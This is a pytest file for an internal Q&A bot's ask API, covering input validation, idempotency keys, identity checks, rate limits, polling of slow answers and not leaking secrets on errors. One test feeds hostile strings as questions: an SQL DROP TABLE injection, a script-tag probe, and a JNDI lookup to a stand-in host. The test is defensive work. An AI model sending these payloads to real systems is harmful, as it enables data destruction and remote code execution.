"""Tests of asking over the API."""

from __future__ import annotations

import asyncio
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from bot.domain.interactions import Outcome
from bot.domain.messages import Message
from bot.domain.settings import Settings
from bot.inbox.worker import WorkLimits
from bot.store.database import Store
from tests.fakes.bot_ports import AnswerBarrier, EchoDesk, generic_outcome
from tests.fakes.durable_inbox import thread_exchanges
from tests.fakes.http_server import BEARER, PAGE_VIEW, TOKEN, Client, serving, settings_for
from tests.unit.bot.web.api import replies

KEYS = {
    "interaction_id",
    "status",
    "answer_type",
    "intent",
    "answer",
    "confidence",
    "requires_escalation",
    "sources",
    "suggestions",
    "remarks",
    "warnings",
    "conversation_id",
}
USER = {"id": "anna", "email": "anna@acme.example", "groups": ["hr"]}


async def found(_: Message) -> Outcome:
    return replies.outcome(replies.FOUND)


async def test_an_answer_has_exactly_the_promised_keys(store: Store, tmp_path: Path) -> None:
    async with serving(store, settings_for(tmp_path), desk=EchoDesk(found)) as client:
        response = await client.post("/api/v1/ask", json={"question": "VPN?"})
        body = await response.json()

    assert response.status == 200
    assert response.content_type == "application/json"
    assert set(body) == KEYS
    assert body["answer"] == replies.FOUND.text
    assert body["sources"][0]["quote"] == "Install the client."


@pytest.mark.mended(id="attack-7")
async def test_scores_of_the_search_are_for_admins(store: Store, tmp_path: Path) -> None:
    sure = replace(replies.FOUND, confidence=0.912345)
    trace = replace(
        replies.TRACE,
        passages=(replace(replies.TRACE.passages[0], signals={"keyword": 5.0, "keyword_rank": 1}),),
    )

    async def scored(_: Message) -> Outcome:
        return Outcome(sure, trace)

    async with serving(
        store, settings_for(tmp_path, admin_token=TOKEN), desk=EchoDesk(scored)
    ) as client:
        asked = {"question": "VPN?", "show_pipeline": True}
        told = await (await client.post("/api/v1/ask", json=asked)).json()
        kept = await (
            await client.get(f"/api/v1/interactions/{told['interaction_id']}?show_pipeline=true")
        ).json()
        full = await (await client.post("/api/v1/ask", json=asked, headers=BEARER)).json()

    for shown in (told, kept):
        assert shown["confidence"] == 0.91
        assert shown["pipeline"]["passages"][0]["signals"] == {"keyword_rank": 1}
        assert shown["pipeline"]["gate"]["features"] == {}
    assert full["confidence"] == 0.912345
    assert full["pipeline"]["passages"][0]["signals"] == {"keyword": 5.0, "keyword_rank": 1}
    assert full["pipeline"]["gate"]["features"] != {}


async def test_the_pipeline_is_there_only_when_asked_for(store: Store, tmp_path: Path) -> None:
    async with serving(store, settings_for(tmp_path), desk=EchoDesk(found)) as client:
        asked = {"question": "VPN?", "show_pipeline": True}
        body = await (await client.post("/api/v1/ask", json=asked)).json()

    assert set(body) == KEYS | {"pipeline"}
    assert body["pipeline"]["masked_question"] is None
    assert body["pipeline"]["gate"]["threshold"] == 0.65


@pytest.mark.parametrize(
    ("question", "status"),
    [
        ("x", 200),
        ("x" * 4000, 200),
        ("  " + "🔑" * 4000 + "\n", 200),
        ("x" * 4001, 422),
        ("", 422),
        (" \n\t", 422),
    ],
)
async def test_a_question_has_1_to_4000_characters_without_the_blanks_around(
    client: Client, question: str, status: int
) -> None:
    response = await client.post("/api/v1/ask", json={"question": question})

    assert response.status == status


@pytest.mark.parametrize(
    ("body", "field", "cure"),
    [
        ({}, "question", "1 to 4000 characters"),
        ({"question": 5}, "question", "1 to 4000"),
        ({"question": None}, "question", "1 to 4000"),
        ({"question": "x", "conversation_id": "a b"}, "conversation_id", "A-Z a-z 0-9"),
        ({"question": "x", "conversation_id": "a\n"}, "conversation_id", "A-Z a-z 0-9"),
        ({"question": "x", "conversation_id": ""}, "conversation_id", "1 to 128"),
        ({"question": "x", "conversation_id": "a" * 129}, "conversation_id", "1 to 128"),
        ({"question": "x", "show_pipeline": "yes"}, "show_pipeline", "true or false"),
        ({"question": "x", "spaces": []}, "spaces", "1 to 100"),
        ({"question": "x", "spaces": ["a\n"]}, "spaces.0", ""),
        ({"question": "x", "source_type": "wiki"}, "source_type", "confluence, folder or upload"),
        ({"question": "x", "user": "anna"}, "user", "object with id"),
        ({"question": "x", "user": {}}, "user.id", "1 to 256"),
        ({"question": "x", "user": {"id": "a", "groups": [1]}}, "user.groups.0", ""),
        ({"question": "x", "user": {"id": "a", "role": "x"}}, "user.role", "id, email, groups"),
        ({"question": "x", "stream": True}, "stream", "Leave it out"),
        ([], "(body)", "JSON object"),
        ("x", "(body)", "JSON object"),
    ],
)
async def test_a_mistake_is_told_with_field_value_and_cure(
    store: Store, client: Client, body: object, field: str, cure: str
) -> None:
    response = await client.post("/api/v1/ask", json=body)
    told = await response.json()

    assert response.status == 422
    assert response.content_type == "application/problem+json"
    assert told["errors"][0]["field"] == field
    assert told["errors"][0]["value"]
    assert cure in told["cure"]
    assert "pydantic" not in str(told)
    assert await store.work.unfinished() == []


@pytest.fixture
def with_models(tmp_path: Path) -> Settings:
    return settings_for(tmp_path, openai_model="large", rest_models="large,none")


@pytest.mark.parametrize("version", ["v1", "v2"])
async def test_a_request_names_a_model_among_those_allowed(
    store: Store, with_models: Settings, version: str
) -> None:
    async with serving(store, with_models) as client:
        asked = {"question": "VPN?", "model": "none"}
        told = await (await client.post(f"/api/{version}/ask", json=asked)).json()
        recorded = await store.interactions.get(told["interaction_id"])
        refused = await client.post(
            f"/api/{version}/ask", json={"question": "VPN?", "model": "huge"}
        )
        problem = await refused.json()

    assert recorded is not None
    assert recorded.message.model == "none"
    assert refused.status == 422
    assert problem["errors"][0]["field"] == "model"
    assert "large, none" in problem["cure"]


async def test_without_allowed_models_a_request_names_none(client: Client) -> None:
    response = await client.post("/api/v2/ask", json={"question": "VPN?", "model": "large"})

    assert response.status == 422
    assert "Leave it out" in (await response.json())["cure"]


@pytest.mark.parametrize(
    "body", [b"", b"{", b"\xff\xfe", b'{"question": "\\ud800"}', b"[" * 100_000, b"NaN"]
)
async def test_what_is_no_json_is_told_so(client: Client, body: bytes) -> None:
    response = await client.post(
        "/api/v1/ask", data=body, headers={"Content-Type": "application/json"}
    )
    told = await response.json()

    assert response.status in {400, 422}
    assert set(told) <= {"type", "title", "status", "detail", "cure", "errors"}


@pytest.mark.parametrize(
    "question",
    [
        "\x00\x01\x02",
        "'; DROP TABLE interactions; --",
        "<script>alert(1)</script>",
        "{{7*7}} ${jndi:ldap://evil.example}",
        "\u202etxet desrever",
        "🔑" * 3000,
    ],
)
async def test_hostile_questions_are_questions(client: Client, question: str) -> None:
    response = await client.post("/api/v1/ask", json={"question": question})
    body = await response.json()

    assert response.status == 200
    assert body["answer"] == f"You said: {question}"


async def ask(client: Any, **body: object) -> Any:  # noqa: ANN401 - JSON
    return await (await client.post("/api/v1/ask", json={"question": "hi", **body})).json()


async def test_a_conversation_goes_on_under_its_id(store: Store, tmp_path: Path) -> None:
    seen: list[list[tuple[str, str]]] = []

    async def look_back(message: Message) -> Outcome:
        seen.append(await thread_exchanges(store, message))
        return generic_outcome("ok")

    async with serving(store, settings_for(tmp_path), desk=EchoDesk(look_back)) as client:
        first = await ask(client, question="one")
        again = await ask(client, question="two", conversation_id=first["conversation_id"])
        own = await ask(client, question="three", conversation_id="team:7.a_b-c")

    assert again["conversation_id"] == first["conversation_id"]
    assert own["conversation_id"] == "team:7.a_b-c"
    assert [len(turns) for turns in seen] == [0, 1, 0]


async def test_conversations_of_different_persons_never_mix(store: Store, tmp_path: Path) -> None:
    seen: list[int] = []

    async def look_back(message: Message) -> Outcome:
        seen.append(len(await thread_exchanges(store, message)))
        return generic_outcome("ok")

    settings = settings_for(tmp_path, dev_identities=True)
    async with serving(store, settings, desk=EchoDesk(look_back)) as client:
        for person in ("anna", "ben", "anna:ben", "anna"):
            await ask(client, conversation_id="same", user={"id": person})

    assert seen == [0, 0, 0, 1]


async def test_browsers_never_see_each_others_conversations(store: Store, tmp_path: Path) -> None:
    authors: list[str] = []

    async def remember(message: Message) -> Outcome:
        authors.append(message.thread.channel)
        return generic_outcome("ok")

    async with serving(store, settings_for(tmp_path), desk=EchoDesk(remember)) as client:
        for _ in range(2):
            await client.get("/", headers=PAGE_VIEW)
            await ask(client, conversation_id="same")
            client.session.cookie_jar.clear()
        await ask(client, conversation_id="same")

    assert len(set(authors)) == 3
    assert authors[-1] == "local"


async def test_the_same_key_twice_is_one_question(store: Store, tmp_path: Path) -> None:
    desk = EchoDesk()
    async with serving(store, settings_for(tmp_path), desk=desk) as client:
        replies_ = await asyncio.gather(
            *(
                client.post(
                    "/api/v1/ask", json={"question": "hi"}, headers={"Idempotency-Key": "k-1"}
                )
                for _ in range(10)
            )
        )
        bodies = [await response.json() for response in replies_]
        other = await client.post(
            "/api/v1/ask", json={"question": "other"}, headers={"Idempotency-Key": "k-1"}
        )
        told = await other.json()
        narrower = await client.post(
            "/api/v1/ask",
            json={"question": "hi", "spaces": ["IT"]},
            headers={"Idempotency-Key": "k-1"},
        )

    assert desk.handled == ["hi"]
    assert all(body == bodies[0] for body in bodies)
    assert other.status == narrower.status == 409
    assert told["interaction_id"] == bodies[0]["interaction_id"]


async def test_the_same_key_of_two_persons_is_two_questions(store: Store, tmp_path: Path) -> None:
    settings = settings_for(tmp_path, dev_identities=True)
    async with serving(store, settings) as client:
        ids = set()
        for person in ("anna", "ben"):
            response = await client.post(
                "/api/v1/ask",
                json={"question": "hi", "user": {"id": person}},
                headers={"Idempotency-Key": "k"},
            )
            ids.add((await response.json())["interaction_id"])

    assert len(ids) == 2


@pytest.mark.parametrize("key", ["a b", "x" * 129, ""])
async def test_a_key_of_another_form_is_refused(client: Client, key: str) -> None:
    response = await client.post(
        "/api/v1/ask", json={"question": "hi"}, headers={"Idempotency-Key": key}
    )
    told = await response.json()

    assert response.status == 422
    assert told["errors"][0]["field"] == "Idempotency-Key"


async def test_no_user_is_believed_without_the_right(store: Store, tmp_path: Path) -> None:
    desk = EchoDesk()
    async with serving(store, settings_for(tmp_path), desk=desk) as client:
        response = await client.post("/api/v1/ask", json={"question": "hi", "user": USER})
        told = await response.json()

    assert response.status == 403
    assert "'anna' is not believed here" in told["detail"]
    assert "FRONTDESK_DEV_IDENTITIES=1" in told["cure"]
    assert desk.handled == []


@pytest.mark.parametrize(
    ("changes", "headers"),
    [({"admin_token": TOKEN}, BEARER), ({"dev_identities": True}, {})],
    ids=["token", "development"],
)
async def test_a_believed_user_asks_with_their_groups(
    store: Store, tmp_path: Path, changes: dict[str, object], headers: dict[str, str]
) -> None:
    asked: list[Message] = []

    async def remember(message: Message) -> Outcome:
        asked.append(message)
        return generic_outcome("ok")

    settings = settings_for(tmp_path, **changes)
    async with serving(store, settings, desk=EchoDesk(remember)) as client:
        body = {"question": "hi", "user": USER}
        assert (await client.post("/api/v1/ask", json=body, headers=headers)).status == 200

    author = asked[0].author
    assert (author.id, author.email) == ("anna", "anna@acme.example")
    assert author.principals == {"everyone", "user:anna", "group:hr"}
    assert asked[0].private


async def test_development_identities_count_on_loopback_only(store: Store, tmp_path: Path) -> None:
    settings = settings_for(
        tmp_path,
        dev_identities=True,
        host="0.0.0.0",  # noqa: S104 - what must not be believed
        admin_token=TOKEN,
    )
    async with serving(store, settings) as client:
        response = await client.post("/api/v1/ask", json={"question": "hi", "user": USER})

    assert response.status == 401


async def test_too_many_questions_are_told_to_come_back(store: Store, tmp_path: Path) -> None:
    gate = AnswerBarrier()
    limits = WorkLimits(waiting=1, drain_seconds=0.1)
    async with serving(store, settings_for(tmp_path), desk=EchoDesk(gate), limits=limits) as client:
        first = asyncio.create_task(ask(client))
        await gate.reached.wait()
        response = await client.post("/api/v1/ask", json={"question": "second"})
        told = await response.json()
        gate.open()
        await first

    assert response.status == 503
    assert response.headers["Retry-After"] == "60"
    assert "Ask again in a minute" in told["detail"]


async def test_an_answer_that_takes_long_is_fetched_later(store: Store, tmp_path: Path) -> None:
    gate = AnswerBarrier()
    settings = settings_for(tmp_path)
    async with serving(store, settings, desk=EchoDesk(gate), ask_seconds=0.05) as client:
        response = await client.post("/api/v1/ask", json={"question": "slow"})
        told = await response.json()
        working = await client.get(told["poll"])
        state = await working.json()
        gate.open()
        for _ in range(500):
            done = await client.get(told["poll"])
            if done.status != 202:
                break
            await asyncio.sleep(0.01)
        answer = await done.json()

    assert response.status == 504
    assert told["interaction_id"] in told["poll"]
    assert (working.status, working.headers["Retry-After"]) == (202, "1")
    assert (state["status"], state["question"]) == ("working", "slow")
    assert answer["answer"] == "You said: slow"


async def test_a_desk_that_breaks_is_an_error_without_details(store: Store, tmp_path: Path) -> None:
    async def broken(_: Message) -> Outcome:
        raise RuntimeError("password=hunter2")

    async with serving(store, settings_for(tmp_path), desk=EchoDesk(broken)) as client:
        response = await client.post("/api/v1/ask", json={"question": "hi", "show_pipeline": True})
        text = await response.text()
        body = await response.json()

    assert response.status == 200
    assert (body["status"], body["answer_type"]) == ("error", "ESCALATION_REQUIRED")
    assert body["requires_escalation"]
    assert "hunter2" not in text


async def test_fifty_questions_at_once_are_each_answered_with_their_own(client: Client) -> None:
    bodies = await asyncio.gather(*(ask(client, question=f"q{n}") for n in range(50)))

    assert [body["answer"] for body in bodies] == [f"You said: q{n}" for n in range(50)]
    assert len({body["interaction_id"] for body in bodies}) == 50
